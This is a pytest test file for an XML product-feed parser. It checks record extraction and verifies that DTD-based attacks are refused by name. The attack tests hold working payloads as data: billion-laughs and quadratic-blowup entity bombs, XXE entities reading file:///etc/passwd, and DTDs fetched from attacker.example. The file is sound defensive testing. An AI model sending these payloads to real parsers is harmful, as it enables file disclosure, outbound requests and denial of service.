"""XML: feed shapes, and every DTD-borne attack refused, fast, by name."""

from __future__ import annotations

import io
import json
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import ParseError

import pytest
from defusedxml import (  # type: ignore[import-untyped]
    DefusedXmlException,
    DTDForbidden,
    EntitiesForbidden,
    ExternalReferenceForbidden,
    NotSupportedError,
)
from defusedxml import ElementTree as DefusedElementTree

from commerce_kit.feeds import (
    FeedFormatError,
    FeedLimitError,
    FeedLimits,
    UnsafeFeedError,
    XmlAdapter,
    parse_feed,
    parse_feed_text,
)
from commerce_kit.feeds._xml import _INSPECT_BYTES, _DoctypeInspector
from commerce_kit.feeds._xml import refusal as mapped_refusal


def rows(data: bytes, **options: Any) -> list[tuple[Mapping[str, object], int, int]]:
    return [(r.data, r.line, r.index) for r in parse_feed(data, format="xml", **options)]


def refusal(data: bytes) -> UnsafeFeedError:
    started = time.perf_counter()
    with pytest.raises(UnsafeFeedError) as caught:
        rows(data)
    assert time.perf_counter() - started < 0.5
    return caught.value


def test_the_fixture_feed_keeps_attributes_lists_and_nested_fields(fixtures: Path) -> None:
    records = list(parse_feed(fixtures / "products.xml"))
    assert [
        (
            {
                "id": "1",
                "sku": "MUG-001",
                "title": "Red mug & saucer",
                "description": "Stoneware, <b>350 ml</b>.",
                "price": "12.50",
                "price@currency": "USD",
                "stock": "40",
                "url": "https://shop.example/mug-001",
            },
            4,
        ),
        (
            {
                "id": "2",
                "sku": "MUG-002",
                "title": "Blue mug",
                "price": "14.00",
                "price@currency": "USD",
                "stock": "0",
                "tag": ["kitchen", "blue"],
                "dimensions": {
                    "height": "10",
                    "height@unit": "cm",
                    "width": "8",
                    "width@unit": "cm",
                },
            },
            12,
        ),
    ] == [(r.data, r.line) for r in records]


def test_rss_items_are_the_records_not_the_channel_fields() -> None:
    data = b"""<rss version="2.0"><channel><title>Shop</title>
<item><title>A</title></item>
<item><title>B</title><category>x</category><category>y</category></item>
</channel></rss>"""
    assert [({"title": "A"}, 2, 1), ({"title": "B", "category": ["x", "y"]}, 3, 2)] == rows(data)


def test_atom_entries_are_the_records_and_namespaces_are_dropped() -> None:
    data = b"""<feed xmlns="http://www.w3.org/2005/Atom" xmlns:x="urn:x">
<title>Shop</title><updated>2024-01-01</updated>
<entry><title>A</title><x:sku>1</x:sku></entry>
</feed>"""
    assert [({"title": "A", "sku": "1"}, 3, 1)] == rows(data)


def test_a_record_tag_finds_records_at_any_depth() -> None:
    data = b"""<catalog><shop><name>S</name><offers>
<offer id="1"><price>5</price><offer>nested is a field</offer></offer>
<offer id="2"/>
</offers></shop></catalog>"""
    adapter = XmlAdapter("offer", name="offers")
    records = list(adapter.parse(io.BytesIO(data), FeedLimits()))
    assert [
        ({"id": "1", "price": "5", "offer": "nested is a field"}, 2),
        ({"id": "2"}, 3),
    ] == [(r.data, r.line) for r in records]


def test_text_beside_child_elements_is_dropped_and_whitespace_inside_text_is_kept() -> None:
    data = b"<p><i>\n<f>  Red\n mug <b>x</b> tail </f>\n<f>  two  </f></i></p>"
    assert [({"f": [{"b": "x"}, "  two  "]}, 1, 1)] == rows(data)


def test_the_declared_encoding_is_honoured() -> None:
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><p><i><t>Café</t></i></p>'.encode("latin-1")
    assert [({"t": "Café"}, 1, 1)] == rows(data)


def test_text_given_as_str_is_read_as_such_whatever_its_declaration_says() -> None:
    text = '<?xml version="1.0" encoding="ISO-8859-1"?><p><i><t>Café</t></i></p>'
    assert [{"t": "Café"}] == [r.data for r in parse_feed_text(text, format="xml")]


@pytest.mark.parametrize(
    ("document", "line", "column", "message"),
    [
        (b"<p>\n<i><t>x</i></p>", 2, 10, "mismatched tag"),
        (b"<p><i>&nope;</i></p>", 1, 7, "undefined entity"),
        (b"<p><i>x</i>", 1, 12, "no element found"),
    ],
)
def test_malformed_xml_stops_the_feed_naming_line_and_column(
    document: bytes, line: int, column: int, message: str
) -> None:
    with pytest.raises(FeedFormatError) as caught:
        rows(document)
    assert (line, column) == (caught.value.line, caught.value.column)
    assert message in str(caught.value)
    assert not isinstance(caught.value, UnsafeFeedError)


def test_a_depth_bomb_fails_fast() -> None:
    started = time.perf_counter()
    with pytest.raises(FeedLimitError) as caught:
        rows(b"<a>" * 1_000_000)
    assert ("max_depth", 1) == (caught.value.limit, caught.value.line)
    assert time.perf_counter() - started < 1.0


def test_a_record_growing_past_max_record_chars_is_stopped_while_it_streams() -> None:
    data = b"<p>\n<i>" + b"<t>x</t>" * 100_000 + b"</i></p>"
    with pytest.raises(FeedLimitError) as caught:
        rows(data, limits=FeedLimits(max_record_chars=100_000))
    assert ("max_record_chars", 2) == (caught.value.limit, caught.value.line)


def test_a_long_text_names_its_element() -> None:
    with pytest.raises(FeedLimitError, match="the text of <title>"):
        rows(
            b"<p><i><title>" + b"x" * 30 + b"</title></i></p>",
            limits=FeedLimits(max_field_chars=20),
        )


@pytest.mark.parametrize(
    ("head", "score"),
    [(b"<products/>", 0.5), (b"\xef\xbb\xbf\n <?xml?>", 0.5), (b"sku,title", 0.0), (b"", 0.0)],
)
def test_the_sniffer_recognises_markup(head: bytes, score: float) -> None:
    assert score == XmlAdapter().sniff(head)


# -- attacks ----------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<products><product><title>&lol9;</title></product></products>"""


@pytest.mark.parametrize(
    ("document", "attack", "line"),
    [
        (BILLION_LAUGHS, "entity_expansion", 4),
        (
            b'<!DOCTYPE q [<!ENTITY a "'
            + b"B" * 200_000
            + b'">]>\n<p>'
            + b"&a;" * 50_000
            + b"</p>",
            "quadratic_blowup",
            1,
        ),
        (
            b'<!DOCTYPE p [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">]><p><i>&xxe;</i></p>',
            "external_entity",
            2,
        ),
        (
            b'<!DOCTYPE p [<!ENTITY xxe PUBLIC "-//x" "http://attacker.example/x">]><p/>',
            "external_entity",
            1,
        ),
        (
            b'<!DOCTYPE p [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]><p/>',
            "external_entity",
            1,
        ),
        (b"<!DOCTYPE p [<!ENTITY % e \"<!ENTITY x 'y'>\"> %e;]><p/>", "parameter_entity", 1),
        (
            b'<!DOCTYPE p [<!NOTATION n SYSTEM "n"><!ENTITY u SYSTEM "u.bin" NDATA n>]><p/>',
            "external_entity",
            1,
        ),
        (b'<!DOCTYPE p SYSTEM "http://attacker.example/p.dtd">\n<p/>', "external_dtd", 1),
        (b"<!DOCTYPE p [\n<!ELEMENT p ANY>\n]>\n<p/>", "dtd", 3),
        (b'<!DOCTYPE p [<!ENTITY x "harmless?">]><p>&x;</p>', "internal_entity", 1),
        (
            b"<!DOCTYPE p [" + b"".join(b'<!ENTITY e%d "v">' % n for n in range(40)) + b"]><p/>",
            "internal_entity",
            1,
        ),
        (b"<!DOCTYPE p [<!ELEMENT p ANY> oops", "dtd", 1),
    ],
)
def test_every_dtd_attack_is_refused_fast_and_named(
    document: bytes, attack: str, line: int
) -> None:
    error = refusal(document)
    assert (attack, line) == (error.attack, error.line)
    assert "refused" in str(error)


def test_unsafe_is_a_kind_of_format_error_with_its_own_code() -> None:
    error = refusal(BILLION_LAUGHS)
    assert (True, "feed_unsafe") == (isinstance(error, FeedFormatError), error.code)


def test_the_inspector_names_unparsed_entities_and_external_references_if_ever_reached() -> None:
    inspector = _DoctypeInspector(None)
    with pytest.raises(UnsafeFeedError) as unparsed:
        inspector.unparsed_entity("u", None, "u.bin", None, "n")
    with pytest.raises(UnsafeFeedError) as reference:
        inspector.external_reference("c", None, "file:///etc/passwd", None)
    assert ("external_entity", "external_entity") == (unparsed.value.attack, reference.value.attack)


@pytest.mark.parametrize(
    ("error", "attack"),
    [
        (DTDForbidden("p", None, None), "dtd"),
        (DTDForbidden("p", "http://attacker.example/p.dtd", None), "external_dtd"),
        (DTDForbidden("p", None, "-//x"), "external_dtd"),
        (EntitiesForbidden("x", None, None, "file:///etc/passwd", None, None), "external_entity"),
        (EntitiesForbidden("x", "&a;&a;", None, None, None, None), "entity_expansion"),
        (EntitiesForbidden("x", "B" * 5_000, None, None, None, None), "quadratic_blowup"),
        (EntitiesForbidden("x", "harmless", None, None, None, None), "internal_entity"),
        (ExternalReferenceForbidden("c", None, "file:///etc/passwd", None), "external_entity"),
        (NotSupportedError("iterparse"), "unsupported"),
    ],
)
def test_every_defusedxml_refusal_maps_to_an_unsafe_feed_error_by_name(
    error: DefusedXmlException, attack: str
) -> None:
    mapped = mapped_refusal(error, 7)
    assert (attack, 7, True) == (mapped.attack, mapped.line, str(mapped).startswith("line 7: "))


class CountingReader(io.BytesIO):
    """A feed that counts the bytes read from it."""

    taken = 0

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self.taken += len(data)
        return data


def test_a_dtd_is_refused_as_it_is_declared_without_reading_the_feed_on() -> None:
    items = b"<i><t>x</t></i>" * 1_000_000  # 15 MB of records after the DTD
    stream = CountingReader(b"<!DOCTYPE p [<!ELEMENT p ANY>]>\n<p>" + items + b"</p>")
    with pytest.raises(UnsafeFeedError) as caught:
        list(XmlAdapter().parse(stream, FeedLimits(max_bytes=10**9)))
    assert ("dtd", True) == (caught.value.attack, stream.taken <= 2 * _INSPECT_BYTES)


def test_a_dtd_after_a_prolog_too_long_to_keep_is_still_refused_by_what_it_refers_to() -> None:
    comment = b"<!--" + b"x" * (_INSPECT_BYTES + 100_000) + b"-->\n"
    document = comment + b'<!DOCTYPE p SYSTEM "http://attacker.example/p.dtd">\n<p/>'
    error = refusal_of(document)
    assert ("external_dtd", 2) == (error.attack, error.line)


def test_a_dtd_too_long_to_inspect_whole_is_refused_as_a_dtd() -> None:
    subset = b"<!-- padding -->\n" * (_INSPECT_BYTES // 10)
    error = refusal_of(b"<!DOCTYPE p [\n" + subset + b'<!ENTITY a "&b;">]><p/>')
    assert "dtd" == error.attack


def test_the_inspector_keeps_the_fallback_for_a_document_without_a_doctype() -> None:
    fallback = UnsafeFeedError("line 1: refused", attack="dtd", line=1)
    assert fallback is _DoctypeInspector(None).inspect(b"<p/>", io.BytesIO().read, fallback)


def test_records_stream_across_many_chunks_with_their_lines() -> None:
    items = b"".join(b"<i><sku>S-%d</sku></i>\n" % n for n in range(20_000))
    records = list(parse_feed(b"<p>\n" + items + b"</p>", format="xml"))
    assert (20_000, {"sku": "S-19999"}, 20_001, 20_000) == (
        len(records),
        records[-1].data,
        records[-1].line,
        records[-1].index,
    )


def refusal_of(document: bytes) -> UnsafeFeedError:
    with pytest.raises(UnsafeFeedError) as caught:
        rows(document, limits=FeedLimits(max_record_chars=10 * _INSPECT_BYTES))
    return caught.value


ATTACK_NAMES = {
    "xmlbomb.xml": "entity_expansion",
    "cyclic.xml": "entity_expansion",
    "quadratic.xml": "quadratic_blowup",
    "external.xml": "external_entity",
    "external_file.xml": "external_entity",
    "dtd.xml": "external_dtd",
    "dtd_element.xml": "dtd",
    "xmlbomb2.xml": "internal_entity",
}


@pytest.mark.parametrize("name", sorted(ATTACK_NAMES))
def test_the_public_attack_corpus_is_refused_by_name(vectors: Path, name: str) -> None:
    expectations = json.loads((vectors / "xml_attacks" / "EXPECTATIONS.json").read_text())
    observed = expectations["observed_defusedxml_ElementTree_parse"]
    forbid_dtd = observed["columns"].index("forbid_dtd=True")
    assert "DTDForbidden" == observed["results"][name][forbid_dtd]
    assert ATTACK_NAMES[name] == refusal((vectors / "xml_attacks" / name).read_bytes()).attack


@pytest.mark.parametrize("name", ["simple.xml", "simple-ns.xml"])
def test_the_corpus_controls_parse(vectors: Path, name: str) -> None:
    records = list(parse_feed(vectors / "xml_attacks" / name, format="xml"))
    assert [{"key": "value"}, {}, {}] == [r.data for r in records]


def _defusedxml_verdict(document: bytes) -> str:
    try:
        DefusedElementTree.fromstring(document, forbid_dtd=True)
    except DefusedXmlException:
        return "unsafe"
    except ParseError:
        return "malformed"
    return "ok"


def _our_verdict(document: bytes) -> str:
    try:
        list(parse_feed(document, format="xml"))
    except UnsafeFeedError:
        return "unsafe"
    except FeedFormatError:
        return "malformed"
    return "ok"


def test_we_refuse_everything_defusedxml_refuses_and_accept_what_it_accepts(vectors: Path) -> None:
    documents = [p.read_bytes() for p in sorted((vectors / "xml_attacks").glob("*.xml"))]
    for name in ("xxe_patt_XXE_Fuzzing.txt", "xxe_patt_xml-attacks.txt"):
        lines = (vectors / "payloads" / name).read_bytes().splitlines()
        documents += [line for line in lines if line.strip()]
    verdicts = {"unsafe": 0, "malformed": 0, "ok": 0}
    disagreements = []
    for document in documents:
        theirs, ours = _defusedxml_verdict(document), _our_verdict(document)
        verdicts[theirs] += 1
        agreed = ours == theirs or (theirs == "malformed" and ours == "unsafe")
        if not agreed:
            disagreements.append((document[:80], theirs, ours))
    assert [] == disagreements
    assert verdicts["unsafe"] >= 30
    assert verdicts["ok"] >= 10
